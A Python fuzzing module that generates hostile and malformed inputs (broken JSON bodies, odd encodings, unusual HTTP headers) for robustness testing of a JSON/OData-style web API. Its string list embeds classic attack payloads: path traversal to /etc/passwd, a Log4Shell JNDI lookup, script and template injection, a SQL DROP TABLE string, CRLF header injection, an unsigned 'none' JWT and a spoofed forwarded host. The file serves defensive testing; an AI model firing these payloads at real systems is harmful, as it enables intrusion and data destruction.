"""Values that programs stumble over: texts, numbers, JSON that is none, JSON that is too much of it."""

import json
import random
from typing import Any
from urllib.parse import quote

ZERO = "00000000-0000-0000-0000-000000000000"
TEXTS = (
    "", " ", "\t", "a", "*", "%", "_", "\\", "/", "..", "../../etc/passwd", "'", "''", "'''", '"', '""', "`", ";", "--",
    "\x00", "a\x00b", "\x1b[31m", "\r\nX-Injected: 1", "\u202eevil", "\u200b", "\ufeff", "\ufffe", "\U0010ffff",
    "\ud800", "ß", "ẞ", "İ", "\u0131", "ﬁ", "e\u0301", "😀", "👩\u200d👩\u200d👧",
    "नमस्ते", "مرحبا", "A" * 65, "A" * 257, "A" * 1_025,
    "é" * 5_000, "null", "undefined", "true", "NaN", "-1", "0", "1e999", "9" * 400, "0x7f", "1_000", "$count", "$ref",
    "$value", "@odata.id", "{{7*7}}", "${jndi:ldap://x.example/a}", "<script>alert(1)</script>", "' or 1 eq 1 or '",
    "'; DROP TABLE membership; --", "2026-02-30T00:00:00Z", "0000-00-00T00:00:00Z", "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "2026-01-01", "P30D",
    "2026-03-02T09:30:00.123456789Z", "2026-03-02T24:00:00Z", "2026-03-02T23:59:60Z", "P99999999999D", ZERO,
    "ffffffff-ffff-ffff-ffff-ffffffffffff", "FFFFFFFF-FFFF-4FFF-8FFF-FFFFFFFFFFFF", "{" + ZERO + "}", "me", "common",
    "https://", "https://[", "https://[::1", "https://a.example:99999/", "https://user:pass@a.example/",
    "http://localhost", "javascript:alert(1)", "https://a.example\\@b.example/", "https://a.example/#f", "//a.example",
    "a@b", "@", "a@b@c.example", "a b@c.example", "a@" + "b" * 300 + ".example", "ü@ü.example", "a@xn--.example",
    "contoso.example",
)  # fmt: skip
NUMBERS = (
    0, -0.0, 1, -1, 2, 999, 1_000, 2**31 - 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 2**64,
    10**30, 10**400, 0.1, 1e300, -1e-300,
)  # fmt: skip
LITERALS = (b"NaN", b"Infinity", b"-Infinity", b"1e400", b"-1e400", b"01", b"+1", b".5", b"1.", b"0x10", b"'a'",
            b"undefined",
            b'"\\ud800"', b'"\\udc00\\ud800"', b'"\\u0000"', b'"\xff"', b'"\xc0\xaf"', b'"\xed\xa0\x80"', b'"\n"',
            b'"\\x"', b"tru")  # fmt: skip
BODIES = (
    b"", b" ", b"null", b"[]", b"{}", b"0", b'""', b"true", b"{", b"}", b'{"a"', b'{"a":', b'{"a":}', b"{,}",
    b'{"a":1,}',
    b'{"a":1}{"a":1}', b'{"a":1}\x00', b"\xef\xbb\xbf{}", b"\xff\xfe{\x00}\x00", b"\x00", b"\xff" * 40, b"{'a':1}",
    b"/* */{}", b"<xml/>", b"a=b&c=d", b"%7B%7D", b'{"\\u0000":1}', b'{"":1}', b'{"__proto__":{}}',
    b"[" * 20, b"[" * 100_000, b'{"a":' * 20_000 + b"1" + b"}" * 20_000, b"[" * 500 + b"]" * 500,
    b'"' + b"a" * 300_000 + b'"',
    b"1" * 5_000, b"1" * 100_000, b'{"a":' + b"9" * 5_000 + b"}", b"[" + b"0," * 60_000 + b"0]", b'{"a":1,"A":2}',
)  # fmt: skip
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "REPORT")


class Raw(bytes):
    """A piece of JSON that is written as it is, or of something that is no JSON at all."""

    __slots__ = ()


def text(chance: random.Random) -> str:
    """Some text, mostly an unpleasant one."""
    kind = chance.randrange(10)
    if kind < 7:
        return chance.choice(TEXTS)
    if kind == 7:
        return chance.choice(TEXTS) + chance.choice(TEXTS)
    return "".join(
        chr(chance.randrange(1, chance.choice((0x7F, 0x250, 0xD7FF)))) for _ in range(chance.randrange(1, 30))
    )


def value(chance: random.Random, depth: int = 0) -> Any:
    """Some JSON value."""
    kind = chance.randrange(9 if depth < 3 else 6)
    if kind < 2:
        return text(chance)
    if kind == 2:
        return chance.choice(NUMBERS)
    if kind == 3:
        return chance.choice((True, False, None))
    if kind < 6:
        return (
            Raw(chance.choice(LITERALS)) if chance.random() < 0.3 else chance.choice((None, [], {}, [[]], [{}], [None]))
        )
    if kind < 8:
        return [value(chance, depth + 1) for _ in range(chance.randrange(4))]
    return {text(chance): value(chance, depth + 1) for _ in range(chance.randrange(4))}


def bent(chance: random.Random, whole: Any, depth: int = 0) -> Any:
    """A JSON value with one thing in it that is not as it should be."""
    if isinstance(whole, dict) and whole and (depth < 3 or chance.random() < 0.5):
        name = chance.choice(list(whole))
        match chance.randrange(7):
            case 0:
                return {one: kept for one, kept in whole.items() if one != name}
            case 1:
                return {**whole, chance.choice((name.upper(), name.swapcase(), text(chance))): value(chance)}
            case 2:
                return {**whole, name: value(chance)}
            case 3:
                return {**whole, f"{name}{chance.choice(('@odata.bind', '@odata.type', '@delta', ' '))}": value(chance)}
            case _:
                return {**whole, name: bent(chance, whole[name], depth + 1)}
    if isinstance(whole, list) and whole and chance.random() < 0.7:
        at = chance.randrange(len(whole))
        many = chance.choice((1, 1, 1, 2, 200))
        return [*whole[:at], *([bent(chance, whole[at], depth + 1)] * many), *whole[at + 1 :]]
    return value(chance)


def written(whole: Any) -> bytes:
    """JSON as octets; what is ``Raw`` goes in as it is, a surrogate alone as ``\\ud800``."""
    if isinstance(whole, Raw):
        return bytes(whole)
    if isinstance(whole, dict):
        inner = (_name(name) + b":" + written(one) for name, one in whole.items())
        return b"{" + b",".join(inner) + b"}"
    if isinstance(whole, list | tuple):
        return b"[" + b",".join(written(one) for one in whole) + b"]"
    if isinstance(whole, int) and not isinstance(whole, bool):
        return f"{whole:d}".encode()
    return json.dumps(whole, ensure_ascii=_is_lonely(whole)).encode()


def _name(name: str) -> bytes:
    return json.dumps(name, ensure_ascii=_is_lonely(name)).encode()


def _is_lonely(given: Any) -> bool:
    return isinstance(given, str) and any("\ud800" <= sign <= "\udfff" for sign in given)


def spoiled(chance: random.Random, octets: bytes) -> bytes:
    """Octets of which some were lost, doubled or changed on the way."""
    match chance.randrange(6):
        case 0:
            return chance.choice(BODIES)
        case 1:
            return octets[: chance.randrange(len(octets) + 1)]
        case 2:
            return octets + chance.choice(BODIES)
        case 3 if octets:
            at = chance.randrange(len(octets))
            return octets[:at] + bytes([chance.randrange(256)]) + octets[at + 1 :]
        case 4:
            return octets[:1] + octets[1:-1] + b"," + octets[1:] if octets[:1] == b"{" else octets * 2
        case _:
            return chance.choice((b"\xef\xbb\xbf" + octets, octets.decode("latin-1").encode("utf-16"), octets * 3))


def in_path(chance: random.Random, given: str) -> str:
    """A text as a segment of a path: mostly percent-encoded, now and then more or less than that."""
    octets = given.encode("utf-8", "surrogatepass")[:2_000]
    match chance.randrange(8):
        case 0:
            return "".join(f"%{octet:02x}" for octet in octets)
        case 1:
            return quote(octets, safe="'()=,:;@&+$!*~/")
        case 2:
            return quote(quote(octets))
        case _:
            return quote(octets, safe="'()=,@")


def in_query(chance: random.Random, given: str) -> str:
    """A text as a value in a query string."""
    octets = given.encode("utf-8", "surrogatepass")[: chance.choice((2_000, 2_000, 20_000))]
    if chance.random() < 0.03:
        return quote(octets) + chance.choice(
            ("%", "%0", "%zz", "%ff", "%c0%af", "%00", "%ed%a0%80", "&", "=", "+", "#")
        )
    return quote(octets, safe="'(),:/$*")


HEADERS: tuple[tuple[str, tuple[bytes, ...]], ...] = (
    ("Accept", (b"", b"*/*", b"text/html", b"application/json;odata.metadata=full",
                b"application/json;odata.metadata=none",
                b"application/xml", b";;;=", b"\xff", b"application/json;odata.metadata=" + b"x" * 5_000)),
    ("Accept-Language", (b"", b"nl", b"sv-SE,en;q=0.1", b"*", b"x" * 4_000, b"en;q=NaN", b"en;q=" + b"9" * 400,
    b"\xff", b",,;;")),
    ("Authorization", (b"", b"Bearer", b"Bearer ", b"Bearer a.b.c", b"Basic Og==", b"Basic !!!", b"Basic /////w==",
                       b"Basic YQ==",
                       b"Bearer eyJhbGciOiJub25lIn0.e30.", b"Bearer " + b"A" * 9_000, b"Bearer \xff",
                       b"Bearer e30.e30.AAAA",
                       b"DPoP x", b"bearer  x", b"Basic " + b"Og" * 5_000, b"Bearer W10.W10.W10", b"Basic AAAAOgAA")),
    ("Content-Type", (b"", b"application/json; charset=utf-16", b"application/JSON", b"text/plain", b"application/xml",
                      b"\xff",
                      b"multipart/form-data; boundary=", b"multipart/form-data", b"application/json;" * 400,
                      b"application/x-www-form-urlencoded; charset=latin-1", b"application/scim+json")),
    ("Content-Encoding", (b"gzip", b"identity", b"br, gzip", b"\xff")),
    ("ConsistencyLevel", (b"eventual", b"Eventual", b"session", b"", b"\xff")),
    ("If-Match", (b"*", b'W/"1"', b'"1"', b"", b'W/"' + b"9" * 400 + b'"', b"\xff", b'W/"JzEn"', b",,,")),
    ("If-None-Match", (b"*", b'W/"1"', b'W/"' + b"x" * 4_000, b"\xff")),
    ("Prefer", (b"return=minimal", b"return=representation", b"odata.maxpagesize=0", b"odata.maxpagesize=-1", b"\xff",
                b"odata.maxpagesize=" + b"9" * 400, b"odata.maxpagesize=1e3", b"respond-async, wait=-1", b",;=",
                b"outlook.x")),
    ("Idempotency-Key", (b"", b"1", b"k" * 9_000, b"\xff\xfe", b'"a"', b"a, b")),
    ("client-request-id", (b"", b"1", b"\xff", ZERO.encode(), b"x" * 36, b"a\x7f" * 18, b"x" * 9_000)),
    ("Cookie", (b"", b"a=b", b"a", b"=", b";;;", b"\xff=\xff", b"browser=" + b"A" * 3_000, b"session=x; session=y",
                b"__Host-session=x", b'a="\\u0000"')),
    ("Origin", (b"null", b"", b"https://a.example", b"http://localhost:1", b"https://[", b"\xff",
    b"https://a.example:99999")),
    ("X-Forwarded-For", (b"", b"1.2.3.4", b"::1, x, 999.1.1.1", b"\xff", b"1" * 5_000)),
    ("X-Forwarded-Host", (b"evil.example", b"\xff")),
    ("X-HTTP-Method-Override", (b"DELETE", b"\xff")),
    ("Range", (b"bytes=0-", b"bytes=-99999999999999999999")),
)  # fmt: skip


def headers(chance: random.Random) -> tuple[tuple[str, bytes], ...]:
    """A few headers, some of them twice."""
    if chance.random() < 0.75:
        return ()
    chosen = [chance.choice(HEADERS) for _ in range(chance.randrange(1, 4))]
    return tuple((name, chance.choice(values)) for name, values in chosen)
